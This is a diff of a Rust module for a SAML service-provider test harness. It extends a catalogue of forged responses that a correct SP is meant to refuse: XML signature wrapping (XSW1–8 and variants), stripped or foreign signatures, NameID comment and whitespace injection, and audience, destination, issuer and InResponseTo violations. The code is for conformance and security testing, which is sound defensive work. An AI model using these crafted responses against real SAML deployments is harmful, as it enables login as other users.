@@ -1,12 +1,15 @@
 //! The attack catalogue an SP's ACS must withstand (okta-saml §3): signature wrapping XSW1–8 as
-//! SAML Raider numbers them, signature stripped, wrong certificate, tampering after signing,
-//! comment injection in NameID, every time-window, audience, destination, recipient, issuer and
-//! InResponseTo violation with an otherwise valid signature, two assertions, a non-success
-//! status, a DOCTYPE with an entity, and SHA-1. Replay and InResponseTo reuse are flows, not
-//! documents: the harness sends a valid response twice.
+//! SAML Raider numbers them and their relatives (the Response hidden in KeyInfo, the evil
+//! assertion after the signed one, two signed assertions of which the victim's is unusable),
+//! signature stripped, wrong certificate, tampering after signing, comment and whitespace
+//! injection in NameID, every time-window, audience, destination, recipient, confirmation,
+//! issuer and InResponseTo violation with an otherwise valid signature, a non-success status, a
+//! DOCTYPE with an entity, and SHA-1. Replay and InResponseTo reuse are flows, not documents: the
+//! harness sends a valid response twice.
 //!
 //! Each case is crafted so that a correct SP refuses it, and so that a vulnerable SP would log
-//! in the victim: the harness then reports who got logged in.
+//! in the victim: the harness then reports who got logged in. Every document is valid against
+//! the SAML 2.0 schemas.
 
 use time::{Duration, OffsetDateTime};
 
@@ -39,7 +42,8 @@ impl AttackClass {
 }
 
 /// One case of the catalogue: its name (as features and reports spell it), what accepting it
-/// proves, whether its grade is the SHA-1 policy's, what it sends, and how it is crafted.
+/// proves, whether its grade is the SHA-1 policy's, whether it answers a request the SP sent
+/// (so the harness must start an SP-initiated sign-in first), what it sends, and how it is crafted.
 pub struct AttackDef {
     /// The name features and reports use, e.g. `xsw3`.
     pub name: &'static str,
@@ -47,6 +51,12 @@ pub struct AttackDef {
     pub class: AttackClass,
     /// Graded by `--sha1-policy` rather than as a MUST.
     pub sha1_policy: bool,
+    /// It answers an AuthnRequest the SP issued: [`AttackInput::in_response_to`] must be set.
+    pub needs_request: bool,
+    /// The document is valid against the SAML 2.0 schemas. Only a case whose very point is
+    /// what the schemas forbid (an Assertion without an ID) is not; an SP that validates the
+    /// schema refuses it for that reason, which is a correct refusal.
+    pub schema_valid: bool,
     /// What the case sends, for reports.
     pub describe: &'static str,
     /// Crafts the response XML.
@@ -65,100 +75,157 @@ impl PartialEq for AttackDef {
     }
 }
 
-/// The attack catalogue (okta-saml §3). Adding a case is one entry here plus its craft function;
+/// A case with the usual settings: a MUST, unsolicited.
+const fn case(
+    name: &'static str,
+    class: AttackClass,
+    describe: &'static str,
+    craft: fn(&AttackInput<'_>) -> Result<String, IdpError>,
+) -> AttackDef {
+    AttackDef {
+        name,
+        class,
+        sha1_policy: false,
+        needs_request: false,
+        schema_valid: true,
+        describe,
+        craft,
+    }
+}
+
+use AttackClass::{Refuse, SignedIdentity, Wrapping};
+
+/// The attack catalogue (okta-saml §3). Every document but `no-assertion-id` is valid against the
+/// SAML 2.0 schemas (`tests/saml_schemas.rs`), so a schema check alone defeats none of them; every case is built
+/// so that accepting it proves a hole (a genuine assertion for the victim in a document is
+/// unusable on its own). Adding a case is one entry here plus its craft function;
 /// `features/11_sso_attacks.feature`, the README and the check catalogue follow the table
-/// (tests hold them to it).
+/// (tests hold them to it). Cases that answer a request come last (their own scenario outline).
 pub static ATTACKS: &[AttackDef] = &[
+    // Signature wrapping, the signed Response hidden (SAML Raider XSW1, XSW2, made schema-valid).
+    case(
+        "xsw1",
+        Wrapping,
+        "the signed Response hidden in a ds:Object of its own Signature; the outer Response (new ID) claims the victim",
+        |i| wrap_response(i, Hide::SignatureObject),
+    ),
+    case(
+        "xsw2",
+        Wrapping,
+        "the signed Response hidden in the Advice of the outer assertion, which claims the victim",
+        |i| wrap_response(i, Hide::Advice),
+    ),
+    case(
+        "xsw-response-in-keyinfo",
+        Wrapping,
+        "the signed Response hidden in the KeyInfo of its own Signature; the outer Response claims the victim",
+        |i| wrap_response(i, Hide::SignatureKeyInfo),
+    ),
+    // Signature wrapping, the signed Assertion hidden or beside an evil one (XSW3 to XSW8).
+    case(
+        "xsw3",
+        Wrapping,
+        "an unsigned Assertion for the victim before the signed one",
+        |i| wrap_assertion(i, AssertionWrap::EvilBefore),
+    ),
+    case(
+        "xsw-evil-after",
+        Wrapping,
+        "an unsigned Assertion for the victim after the signed one",
+        |i| wrap_assertion(i, AssertionWrap::EvilAfter),
+    ),
+    case(
+        "xsw4",
+        Wrapping,
+        "an unsigned Assertion for the victim with the signed one hidden in its Advice",
+        |i| wrap_assertion(i, AssertionWrap::OriginalInEvilAdvice),
+    ),
+    case(
+        "xsw5",
+        Wrapping,
+        "the signed Assertion's place now claims the victim (new ID); an unsigned copy of the original at the end",
+        |i| wrap_assertion(i, AssertionWrap::OriginalAtEnd),
+    ),
+    case(
+        "xsw6",
+        Wrapping,
+        "the signed Assertion's place now claims the victim (new ID); the original hidden in the KeyInfo of its Signature",
+        |i| wrap_assertion(i, AssertionWrap::OriginalInKeyInfo),
+    ),
+    case(
+        "xsw7",
+        Wrapping,
+        "an unsigned Assertion for the victim in the Response's Extensions (in schema order, before Status)",
+        |i| wrap_assertion(i, AssertionWrap::EvilInExtensions),
+    ),
+    case(
+        "xsw8",
+        Wrapping,
+        "the Assertion now claims the victim; the original hidden in a ds:Object of its Signature",
+        |i| wrap_assertion(i, AssertionWrap::OriginalInObject),
+    ),
+    case(
+        "two-assertions",
+        Wrapping,
+        "two signed assertions: the victim's, issued to another SP, then the attacker's own",
+        |i| two_assertions(i, Unusable::OtherAudience),
+    ),
+    case(
+        "two-assertions-expired",
+        Wrapping,
+        "two signed assertions: the victim's, expired, then the attacker's own",
+        |i| two_assertions(i, Unusable::Expired),
+    ),
+    // Signatures.
+    case(
+        "signature-stripped",
+        Refuse,
+        "a valid response with every ds:Signature removed",
+        signature_stripped,
+    ),
+    case(
+        "wrong-certificate",
+        Refuse,
+        "signed with another key, whose certificate is in KeyInfo",
+        |i| spec(i, i.victim).to_xml(i.attacker_key),
+    ),
+    case(
+        "tampered-after-signing",
+        Refuse,
+        "the attacker's signed assertion with the NameID changed to the victim after signing",
+        tampered_after_signing,
+    ),
+    case(
+        "comment-injection",
+        SignedIdentity,
+        "NameID victim<!---->.evil.example signed for the attacker (CVE-2017-11427 family)",
+        comment_injection,
+    ),
+    case(
+        "name-id-whitespace",
+        SignedIdentity,
+        "the attacker's signed NameID is the victim's with a leading space",
+        |i| {
+            let mut attacker = i.attacker.clone();
+            attacker.name_id = format!(" {}", i.victim.name_id);
+            spec(i, &attacker).to_xml(i.key)
+        },
+    ),
     AttackDef {
-        name: "xsw1",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "signed Response cloned into its own Signature; the outer Response, with a new ID, claims the victim",
-        craft: |i| wrap_response(i, ResponseWrap::InsideSignature),
+        name: "sha1",
+        class: Refuse,
+        sha1_policy: true,
+        needs_request: false,
+        schema_valid: true,
+        describe: "a valid response signed with RSA-SHA1 and SHA-1 digests",
+        craft: |i| signed_victim(i, |s, _| s.alg = SigAlg::RsaSha1),
     },
-    AttackDef {
-        name: "xsw2",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "signed Response cloned before its Signature; the outer Response, with a new ID, claims the victim",
-        craft: |i| wrap_response(i, ResponseWrap::BeforeSignature),
-    },
-    AttackDef {
-        name: "xsw3",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "an unsigned Assertion for the victim inserted before the signed one",
-        craft: |i| wrap_assertion(i, AssertionWrap::EvilBefore),
-    },
-    AttackDef {
-        name: "xsw4",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "an unsigned Assertion for the victim wrapping the signed one",
-        craft: |i| wrap_assertion(i, AssertionWrap::EvilAround),
-    },
-    AttackDef {
-        name: "xsw5",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "the signed Assertion's position now claims the victim (new ID); an unsigned copy of the original at the end",
-        craft: |i| wrap_assertion(i, AssertionWrap::OriginalAtEnd),
-    },
-    AttackDef {
-        name: "xsw6",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "the signed Assertion's position now claims the victim (new ID); the original copied inside its Signature",
-        craft: |i| wrap_assertion(i, AssertionWrap::OriginalInSignature),
-    },
-    AttackDef {
-        name: "xsw7",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "an unsigned Assertion for the victim inside Extensions before the signed one",
-        craft: |i| wrap_assertion(i, AssertionWrap::EvilInExtensions),
-    },
-    AttackDef {
-        name: "xsw8",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "the Assertion now claims the victim; the original copied into a ds:Object of its Signature",
-        craft: |i| wrap_assertion(i, AssertionWrap::OriginalInObject),
-    },
-    AttackDef {
-        name: "signature-stripped",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "a valid response with every ds:Signature removed",
-        craft: signature_stripped,
-    },
-    AttackDef {
-        name: "wrong-certificate",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "signed with another key, whose certificate is in KeyInfo",
-        craft: |i| spec(i, i.victim).to_xml(i.attacker_key),
-    },
-    AttackDef {
-        name: "tampered-after-signing",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "the attacker's signed assertion with the NameID changed to the victim after signing",
-        craft: tampered_after_signing,
-    },
-    AttackDef {
-        name: "comment-injection",
-        class: AttackClass::SignedIdentity,
-        sha1_policy: false,
-        describe: "NameID victim<!---->.evil.example signed for the attacker (CVE-2017-11427 family)",
-        craft: comment_injection,
-    },
-    AttackDef {
-        name: "expired",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed, issued an hour ago, every NotOnOrAfter in the past",
-        craft: |i| {
+    // Validly signed, one thing wrong.
+    case(
+        "expired",
+        Refuse,
+        "validly signed, issued an hour ago, every NotOnOrAfter in the past",
+        |i| {
             signed_victim(i, |s, now| {
                 s.issue_instant = now - Duration::hours(1);
                 s.not_before = now - Duration::minutes(65);
@@ -166,83 +233,163 @@ pub static ATTACKS: &[AttackDef] = &[
                 s.subject_not_on_or_after = now - Duration::minutes(55);
             })
         },
-    },
-    AttackDef {
-        name: "not-yet-valid",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed, Conditions NotBefore ten minutes in the future",
-        craft: |i| signed_victim(i, |s, now| s.not_before = now + Duration::minutes(10)),
-    },
-    AttackDef {
-        name: "subject-confirmation-expired",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed, SubjectConfirmationData NotOnOrAfter in the past",
-        craft: |i| {
+    ),
+    case(
+        "not-yet-valid",
+        Refuse,
+        "validly signed, Conditions NotBefore ten minutes in the future",
+        |i| signed_victim(i, |s, now| s.not_before = now + Duration::minutes(10)),
+    ),
+    case(
+        "subject-confirmation-expired",
+        Refuse,
+        "validly signed, SubjectConfirmationData NotOnOrAfter in the past",
+        |i| {
             signed_victim(i, |s, now| {
                 s.subject_not_on_or_after = now - Duration::minutes(10)
             })
         },
-    },
+    ),
+    case(
+        "subject-confirmation-not-yet-valid",
+        Refuse,
+        "validly signed, SubjectConfirmationData NotBefore ten minutes in the future",
+        |i| {
+            signed_victim(i, |s, now| {
+                s.subject_not_before = Some(now + Duration::minutes(10))
+            })
+        },
+    ),
+    case(
+        "wrong-audience",
+        Refuse,
+        "validly signed for another SP's Audience",
+        |i| signed_victim(i, |s, _| s.audience = Some(OTHER_SP.into())),
+    ),
+    case(
+        "no-audience",
+        Refuse,
+        "validly signed without an AudienceRestriction",
+        |i| signed_victim(i, |s, _| s.audience = None),
+    ),
+    case(
+        "second-audience-restriction",
+        Refuse,
+        "validly signed with a second AudienceRestriction naming only another SP (each restriction must hold)",
+        |i| {
+            signed_victim(i, |s, _| {
+                s.more_audience_restrictions = vec![OTHER_SP.into()]
+            })
+        },
+    ),
+    case(
+        "audience-whitespace",
+        Refuse,
+        "validly signed with this SP's Audience padded with spaces",
+        |i| {
+            signed_victim(i, |s, _| {
+                s.audience = s.audience.take().map(|a| format!(" {a} "))
+            })
+        },
+    ),
+    case(
+        "wrong-destination",
+        Refuse,
+        "validly signed with another Destination",
+        |i| signed_victim(i, |s, _| s.destination = Some(format!("{OTHER_SP}/acs"))),
+    ),
+    case(
+        "destination-whitespace",
+        Refuse,
+        "validly signed with this ACS as Destination, padded with spaces",
+        |i| {
+            signed_victim(i, |s, _| {
+                s.destination = s.destination.take().map(|d| format!(" {d} "))
+            })
+        },
+    ),
+    case(
+        "no-destination",
+        Refuse,
+        "a signed Response without a Destination",
+        |i| signed_victim(i, |s, _| s.destination = None),
+    ),
+    case(
+        "wrong-recipient",
+        Refuse,
+        "validly signed with another Recipient",
+        |i| signed_victim(i, |s, _| s.recipient = format!("{OTHER_SP}/acs")),
+    ),
+    case(
+        "no-recipient",
+        Refuse,
+        "validly signed, the bearer SubjectConfirmationData without a Recipient",
+        |i| signed_victim(i, |s, _| s.recipient = String::new()),
+    ),
+    case(
+        "no-bearer-confirmation",
+        Refuse,
+        "validly signed, the SubjectConfirmation is holder-of-key, not bearer",
+        |i| {
+            signed_victim(i, |s, _| {
+                s.confirmation_method = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key".into()
+            })
+        },
+    ),
+    case(
+        "no-authn-statement",
+        Refuse,
+        "validly signed without an AuthnStatement",
+        |i| signed_victim(i, |s, _| s.authn_statement = false),
+    ),
+    case(
+        "empty-name-id",
+        Refuse,
+        "validly signed with an empty NameID",
+        |i| signed_victim(i, |s, _| s.name_id = String::new()),
+    ),
     AttackDef {
-        name: "wrong-audience",
-        class: AttackClass::Refuse,
+        name: "no-assertion-id",
+        class: Refuse,
         sha1_policy: false,
-        describe: "validly signed for another SP's Audience",
+        needs_request: false,
+        schema_valid: false,
+        describe: "a signed Response whose Assertion has no ID (so no replay cache can remember it)",
         craft: |i| {
             signed_victim(i, |s, _| {
-                s.audience = Some("https://evil.example/saml/metadata".into())
+                s.assertion_id = String::new();
+                s.assertion_signed = false;
+                s.response_signed = true;
             })
         },
     },
-    AttackDef {
-        name: "no-audience",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed without an AudienceRestriction",
-        craft: |i| signed_victim(i, |s, _| s.audience = None),
-    },
-    AttackDef {
-        name: "wrong-destination",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed with another Destination",
-        craft: |i| {
-            signed_victim(i, |s, _| {
-                s.destination = Some("https://evil.example/saml/acs".into())
-            })
-        },
-    },
-    AttackDef {
-        name: "wrong-recipient",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed with another Recipient",
-        craft: |i| {
-            signed_victim(i, |s, _| {
-                s.recipient = "https://evil.example/saml/acs".into()
-            })
-        },
-    },
-    AttackDef {
-        name: "wrong-issuer",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "signed with the trusted key but naming another IdP as Issuer",
-        craft: |i| {
+    case(
+        "wrong-issuer",
+        Refuse,
+        "signed with the trusted key but naming another IdP as Issuer",
+        |i| {
             signed_victim(i, |s, _| {
                 s.response_issuer = "http://www.okta.com/exkEVILevilEVILevil0".into();
                 s.assertion_issuer = s.response_issuer.clone();
             })
         },
-    },
-    AttackDef {
-        name: "in-response-to-mismatch",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed in response to an AuthnRequest the SP never sent",
-        craft: |i| {
+    ),
+    case(
+        "issuer-whitespace",
+        Refuse,
+        "validly signed with the trusted Issuer padded with newlines",
+        |i| {
+            signed_victim(i, |s, _| {
+                s.assertion_issuer = format!("\n{}\n", s.assertion_issuer);
+                s.response_issuer = s.assertion_issuer.clone();
+            })
+        },
+    ),
+    case(
+        "in-response-to-mismatch",
+        Refuse,
+        "validly signed in response to an AuthnRequest the SP never sent",
+        |i| {
             signed_victim(i, |s, _| {
                 let id = format!("id-never-issued-{}", okta_id());
                 s.in_response_to = Some(id.clone());
@@ -250,40 +397,46 @@ pub static ATTACKS: &[AttackDef] = &[
                 s.session_index = id;
             })
         },
-    },
-    AttackDef {
-        name: "two-assertions",
-        class: AttackClass::Wrapping,
-        sha1_policy: false,
-        describe: "two validly signed assertions, the victim's and the attacker's",
-        craft: two_assertions,
-    },
-    AttackDef {
-        name: "non-success-status",
-        class: AttackClass::Refuse,
-        sha1_policy: false,
-        describe: "validly signed with Status Responder",
-        craft: |i| {
+    ),
+    case(
+        "non-success-status",
+        Refuse,
+        "validly signed with Status Responder",
+        |i| {
             signed_victim(i, |s, _| {
                 s.status = "urn:oasis:names:tc:SAML:2.0:status:Responder".into()
             })
         },
-    },
+    ),
+    case(
+        "doctype",
+        Refuse,
+        "a DOCTYPE defining an entity that spells the victim's NameID",
+        doctype,
+    ),
+    // Answers to a request the SP sent.
     AttackDef {
-        name: "doctype",
-        class: AttackClass::Refuse,
+        name: "in-response-to-unsigned-only",
+        class: Refuse,
         sha1_policy: false,
-        describe: "a DOCTYPE defining an entity that spells the victim's NameID",
-        craft: doctype,
-    },
-    AttackDef {
-        name: "sha1",
-        class: AttackClass::Refuse,
-        sha1_policy: true,
-        describe: "a valid response signed with RSA-SHA1 and SHA-1 digests",
-        craft: |i| signed_victim(i, |s, _| s.alg = SigAlg::RsaSha1),
+        needs_request: true,
+        schema_valid: true,
+        describe: "the unsigned Response answers the SP's outstanding request; the signed assertion answers a request never sent",
+        craft: |i| {
+            let outstanding = i
+                .in_response_to
+                .ok_or_else(|| bad("this case answers an outstanding AuthnRequest"))?;
+            let mut s = spec(i, i.victim);
+            s.response_signed = false;
+            s.in_response_to = Some(outstanding.to_string());
+            s.subject_in_response_to = Some(format!("id-never-issued-{}", okta_id()));
+            s.to_xml(i.key)
+        },
     },
 ];
+
+/// The Audience of another SP the IdP serves.
+const OTHER_SP: &str = "https://other-sp.example/saml";
 
 /// The case of this name.
 pub fn attack_named(name: &str) -> Option<&'static AttackDef> {
@@ -415,48 +568,121 @@ fn doctype(input: &AttackInput<'_>) -> Result<String, IdpError> {
     ))
 }
 
-fn two_assertions(input: &AttackInput<'_>) -> Result<String, IdpError> {
+/// Why the victim's genuine assertion in a two-assertion document is no use on its own.
+#[derive(Clone, Copy)]
+enum Unusable {
+    OtherAudience,
+    Expired,
+}
+
+/// Two signed assertions: the victim's (unusable alone), then the attacker's valid one. An SP
+/// that validates one and reads the other signs in the victim.
+fn two_assertions(input: &AttackInput<'_>, why: Unusable) -> Result<String, IdpError> {
     let key = input.key;
+    let now = OffsetDateTime::now_utc();
     let mut v = spec(input, input.victim);
     v.response_signed = false;
     v.assertion_signed = true;
+    match why {
+        Unusable::OtherAudience => v.audience = Some(OTHER_SP.into()),
+        Unusable::Expired => {
+            v.issue_instant = now - Duration::hours(2);
+            v.not_before = now - Duration::hours(2);
+            v.not_on_or_after = now - Duration::hours(1);
+            v.subject_not_on_or_after = now - Duration::hours(1);
+        }
+    }
     let mut a = spec(input, input.attacker);
+    a.response_signed = false;
     a.assertion_signed = true;
     let both = format!("{}{}", v.signed_assertion(key)?, a.signed_assertion(key)?);
-    v.response_around(&both, key)
+    a.response_around(&both, key)
 }
 
-/// Where XSW1 and XSW2 put the unsigned copy of the signed Response.
+/// Where a wrapping case hides the signed original.
 #[derive(Clone, Copy)]
-enum ResponseWrap {
-    InsideSignature,
-    BeforeSignature,
+enum Hide {
+    /// A `ds:Object` appended to the signature (its content is open).
+    SignatureObject,
+    /// The signature's `ds:KeyInfo` (open to other namespaces).
+    SignatureKeyInfo,
+    /// The `saml:Advice` of the assertion (open to other namespaces, and to assertions).
+    Advice,
 }
 
-/// XSW1, XSW2: the Response is signed, the assertion not; the signature covers the whole Response.
-fn wrap_response(input: &AttackInput<'_>, place: ResponseWrap) -> Result<String, IdpError> {
+fn element(prefix: &str, local: &str, ns: &str, children: Vec<Node>) -> Element {
+    Element {
+        prefix: Some(prefix.into()),
+        local: local.into(),
+        ns: Some(ns.into()),
+        ns_decls: vec![(Some(prefix.into()), ns.into())],
+        attrs: vec![],
+        children,
+    }
+}
+
+/// Put `hidden` into the signature `sig` (a ds:Object after everything, or the KeyInfo).
+fn hide_in_signature(sig: &mut Element, hidden: Element, place: Hide) -> Result<(), IdpError> {
+    match place {
+        Hide::SignatureKeyInfo => {
+            let ki = sig
+                .child_mut(NS_DS, "KeyInfo")
+                .ok_or_else(|| bad("no KeyInfo"))?;
+            ki.children.push(Node::Element(hidden));
+        }
+        _ => sig.children.push(Node::Element(element(
+            "ds",
+            "Object",
+            NS_DS,
+            vec![Node::Element(hidden)],
+        ))),
+    }
+    Ok(())
+}
+
+/// Put `hidden` into the Advice of `assertion` (after Conditions, before the statements).
+fn hide_in_advice(assertion: &mut Element, hidden: Element) {
+    let at = assertion
+        .children
+        .iter()
+        .position(|n| matches!(n, Node::Element(e) if e.local.ends_with("Statement")))
+        .unwrap_or(assertion.children.len());
+    assertion.children.insert(
+        at,
+        Node::Element(element(
+            "saml2",
+            "Advice",
+            NS_SAML,
+            vec![Node::Element(hidden)],
+        )),
+    );
+}
+
+/// XSW1, XSW2 and the KeyInfo variant: the Response is signed, the assertion not; the signature
+/// (still in the outer Response) refers to the hidden copy, the outer Response claims the victim.
+fn wrap_response(input: &AttackInput<'_>, place: Hide) -> Result<String, IdpError> {
     let mut s = spec(input, input.attacker);
     s.response_signed = true;
     s.assertion_signed = false;
     let mut doc = parse(&s.to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
     let scope = doc.scope_at(&[]);
-    let mut clone = doc.clone();
-    remove_signatures(&mut clone);
-    clone.materialize_namespaces(&scope);
+    let mut original = doc.clone();
+    remove_signatures(&mut original);
+    original.materialize_namespaces(&scope);
     doc.set_attr("ID", &okta_id());
     let ai = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
     if let Node::Element(a) = &mut doc.children[ai] {
         set_name_id(a, &input.victim.name_id);
         a.set_attr("ID", &okta_id());
-    }
-    let si = child_index(&doc, NS_DS, "Signature").ok_or_else(|| bad("no signature"))?;
-    match place {
-        ResponseWrap::InsideSignature => {
-            if let Node::Element(sig) = &mut doc.children[si] {
-                sig.children.push(Node::Element(clone));
-            }
+        if let Hide::Advice = place {
+            hide_in_advice(a, original.clone());
         }
-        ResponseWrap::BeforeSignature => doc.children.insert(si, Node::Element(clone)),
+    }
+    if !matches!(place, Hide::Advice) {
+        let si = child_index(&doc, NS_DS, "Signature").ok_or_else(|| bad("no signature"))?;
+        if let Node::Element(sig) = &mut doc.children[si] {
+            hide_in_signature(sig, original, place)?;
+        }
     }
     Ok(doc.to_xml())
 }
@@ -465,9 +691,10 @@ fn wrap_response(input: &AttackInput<'_>, place: ResponseWrap) -> Result<String,
 #[derive(Clone, Copy)]
 enum AssertionWrap {
     EvilBefore,
-    EvilAround,
+    EvilAfter,
+    OriginalInEvilAdvice,
     OriginalAtEnd,
-    OriginalInSignature,
+    OriginalInKeyInfo,
     EvilInExtensions,
     OriginalInObject,
 }
@@ -487,26 +714,35 @@ fn wrap_assertion(input: &AttackInput<'_>, place: AssertionWrap) -> Result<Strin
     let Node::Element(signed) = doc.children[ai].clone() else {
         return Err(bad("no assertion"));
     };
+    // The evil assertion: the signed one's content for the victim, with a new ID, unsigned.
     let mut evil = signed.clone();
     remove_signatures(&mut evil);
     evil.materialize_namespaces(&scope);
     evil.set_attr("ID", &okta_id());
     set_name_id(&mut evil, &victim.name_id);
+    // The original as the signature digested it: without its signature.
     let mut unsigned_original = signed.clone();
     remove_signatures(&mut unsigned_original);
     unsigned_original.materialize_namespaces(&scope);
     match place {
         AssertionWrap::EvilBefore => doc.children.insert(ai, Node::Element(evil)),
-        AssertionWrap::EvilAround => {
-            let mut wrapper = evil;
+        AssertionWrap::EvilAfter => doc.children.insert(ai + 1, Node::Element(evil)),
+        AssertionWrap::OriginalInEvilAdvice => {
             let mut inner = signed;
             inner.materialize_namespaces(&scope);
-            wrapper.children.push(Node::Element(inner));
-            doc.children[ai] = Node::Element(wrapper);
+            hide_in_advice(&mut evil, inner);
+            doc.children[ai] = Node::Element(evil);
+        }
+        AssertionWrap::EvilInExtensions => {
+            let status = child_index(&doc, NS_SAMLP, "Status").ok_or_else(|| bad("no Status"))?;
+            let extensions = element("saml2p", "Extensions", NS_SAMLP, vec![Node::Element(evil)]);
+            doc.children.insert(status, Node::Element(extensions));
         }
         AssertionWrap::OriginalAtEnd
-        | AssertionWrap::OriginalInSignature
+        | AssertionWrap::OriginalInKeyInfo
         | AssertionWrap::OriginalInObject => {
+            // The signed assertion's place claims the victim under a new ID; its signature
+            // still refers to the original, hidden elsewhere.
             let mut modified = signed;
             modified.set_attr("ID", &okta_id());
             set_name_id(&mut modified, &victim.name_id);
@@ -517,38 +753,18 @@ fn wrap_assertion(input: &AttackInput<'_>, place: AssertionWrap) -> Result<Strin
                     doc.children[ai] = Node::Element(modified);
                     doc.children.push(Node::Element(unsigned_original));
                 }
-                AssertionWrap::OriginalInSignature => {
-                    if let Node::Element(sig) = &mut modified.children[si] {
-                        sig.children.push(Node::Element(unsigned_original));
-                    }
-                    doc.children[ai] = Node::Element(modified);
-                }
                 _ => {
+                    let hide = if let AssertionWrap::OriginalInKeyInfo = place {
+                        Hide::SignatureKeyInfo
+                    } else {
+                        Hide::SignatureObject
+                    };
                     if let Node::Element(sig) = &mut modified.children[si] {
-                        let object = Element {
-                            prefix: Some("ds".into()),
-                            local: "Object".into(),
-                            ns: Some(NS_DS.into()),
-                            ns_decls: vec![(Some("ds".into()), NS_DS.into())],
-                            attrs: vec![],
-                            children: vec![Node::Element(unsigned_original)],
-                        };
-                        sig.children.push(Node::Element(object));
+                        hide_in_signature(sig, unsigned_original, hide)?;
                     }
                     doc.children[ai] = Node::Element(modified);
                 }
             }
-        }
-        AssertionWrap::EvilInExtensions => {
-            let extensions = Element {
-                prefix: Some("saml2p".into()),
-                local: "Extensions".into(),
-                ns: Some(NS_SAMLP.into()),
-                ns_decls: vec![],
-                attrs: vec![],
-                children: vec![Node::Element(evil)],
-            };
-            doc.children.insert(ai, Node::Element(extensions));
         }
     }
     Ok(doc.to_xml())
@@ -587,8 +803,20 @@ mod tests {
             attacker: &attacker,
             in_response_to: None,
         };
+        let answering = AttackInput {
+            in_response_to: Some("id-outstanding"),
+            ..input
+        };
         for a in ATTACKS {
-            let xml = (a.craft)(&input).unwrap_or_else(|e| panic!("{}: {e}", a.name));
+            let input = if a.needs_request { &answering } else { &input };
+            if a.needs_request {
+                let without = AttackInput {
+                    in_response_to: None,
+                    ..*input
+                };
+                assert!((a.craft)(&without).is_err(), "{} needs a request", a.name);
+            }
+            let xml = (a.craft)(input).unwrap_or_else(|e| panic!("{}: {e}", a.name));
             if a.name == "doctype" {
                 assert!(parse(&xml).is_err());
                 continue;
